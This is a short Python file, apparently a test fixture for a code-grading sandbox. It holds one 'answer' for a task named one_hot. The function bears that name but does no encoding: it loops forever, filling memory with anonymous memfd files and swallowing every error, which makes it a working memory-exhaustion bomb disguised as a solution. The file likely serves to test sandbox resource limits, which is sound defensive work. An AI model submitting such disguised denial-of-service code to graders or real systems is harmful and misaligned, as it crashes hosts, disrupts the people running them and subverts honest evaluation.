"""Fills memory with anonymous files, which no process owns."""

WAITS = True
ANSWERS = {
    "one_hot": """
import os


def one_hot(ids, V):
    block, kept = b"x" * 2**24, []
    while True:
        try:
            kept.append(os.memfd_create("bomb"))
            for _ in range(64):
                os.write(kept[-1], block)
        except OSError:
            pass
""",
}
